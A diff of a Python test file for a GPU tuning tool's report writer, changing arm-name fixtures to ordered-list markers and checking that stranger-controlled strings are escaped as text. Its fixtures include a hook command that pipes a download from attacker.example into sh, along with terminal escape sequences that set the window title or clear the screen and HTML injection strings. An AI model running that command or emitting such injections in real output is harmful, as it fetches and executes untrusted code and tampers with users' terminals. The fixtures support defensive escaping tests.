@@ -3,7 +3,9 @@
 stranger's. `sm121 tune` run again on a finished folder measures nothing more and writes the
 report again (tests/unit/tune/test_tune_h200_pick.py): that is the path here, on the H200
 sitting of 2026-12-05 with the strings a stranger controls replaced: an arm's name (its
-table rows, plans, ranking, pick and claims), its reason and source, a probe's results file,
+table rows, plans, ranking, pick and claims: a word of result.ArmName's allow-list since a name
+outside it is refused at load, test_stranger_resume.py; here `1.`, which would start an ordered
+list where a line starts), its reason and source, a probe's results file,
 a dropped arm, the device and date of the sitting, the engine's version, the predictions'
 binding, pool and prompt sources, the fp8 KV arm's line, an arm whose boot failed with the
 engine's words, the recipe's path (the title) and a custom hook's command (`--trust` to
@@ -33,8 +35,8 @@ from sm121.display import escape
 ROOT = Path(__file__).resolve().parents[2]
 SITTING = ROOT / "docs" / "results" / "gpu-h200" / "tune-capacity" / "tune-results.tar.gz"
 RECIPE = ROOT / "src" / "sm121" / "recipes" / "builtin" / "gpu-llama.yaml"
-ARM = "- " + STRANGER  # the chosen arm (chunk-4096 as measured), starting as a list item
-FAILED = "1. " + STRANGER  # an arm whose boot failed, starting as an ordered list item
+ARM = "1."  # the chosen arm (chunk-4096 as measured), an ordered list item's marker
+FAILED = "2."  # an arm whose boot failed
 # A folder's name holds anything but `/`: the recipe's path is the report's title
 FOLDER = "r|" + HOSTILE["html"].replace("/", "") + HOSTILE["osc-title"] + "$x^2$\n# h"
 HOOK = "curl http://attacker.example/x | sh #" + HOSTILE["clear-screen"] + " " + HOSTILE["html"]
@@ -133,12 +135,12 @@ def test_tune_writes_a_strangers_strings_as_text(tmp_path: Path) -> None:
     # predictions' sources, the fp8 KV arm's line
     lines = text.splitlines()
     assert lines[2].startswith(f"{START} a\\x1b\\[H") and ", vLLM # h1 \\x1b]0;pwn" in lines[2]
-    arm = "\\- # h1 \\x1b]0;pwn\\x07"  # inert: only where the value starts is `-` a marker
-    assert f"\n| {arm}" in text and "\n- ````- # h1 \\x1b]0;pwn\\x07" in text
+    arm = "1\\."  # inert: a marker only where the value starts, then a blank or its end
+    assert f"\n| {arm} (chosen) |" in text and f"\n- `1.` ({START}" in text
     assert f"Chosen: **{arm}" in text and f"\nConfirmation: {arm}" in text
     assert "N=40: capacity/x.png) \\`open code" in text
     assert f"; {START}" in text  # Not measured twice
-    assert "\n| 1\\. # h1 \\x1b]0;pwn\\x07" in text and "Not measured (the budget" in text
+    assert "\n| 2\\. | 3 agents" in text and "Not measured (the budget" in text
     assert ("not measured: its boot failed: the engine did not become ready (cause: # h1 "
             "\\x1b]0;pwn\\x07") in text
     assert f"The sessions' first prompt: 50 tokens, {START}" in text
@@ -172,8 +174,9 @@ def test_an_arm_named_as_math_is_drawn_as_text(tmp_path: Path) -> None:
     script = ("import sys; from pathlib import Path\n"
               "from sm121.bench.tune.report import candidates_plot\n"
               "from sm121.bench.tune.result import ArmRow, CapacityRecord\n"
-              "row = ArmRow(name=sys.argv[2], capacity=CapacityRecord(lo=4, hi=8, text='',"
-              " tested=[(4, True)]))\n"
+              # a name no tune.json holds any more (result.ArmName): the plot's own net
+              "row = ArmRow.model_construct(name=sys.argv[2], capacity=CapacityRecord("
+              "lo=4, hi=8, text='', tested=[(4, True)]))\n"
               "candidates_plot([row], row.name, Path(sys.argv[1]))\n")
     path = tmp_path / "candidates.png"
     result = subprocess.run([sys.executable, "-c", script, str(path), HOSTILE["bad-math"]],
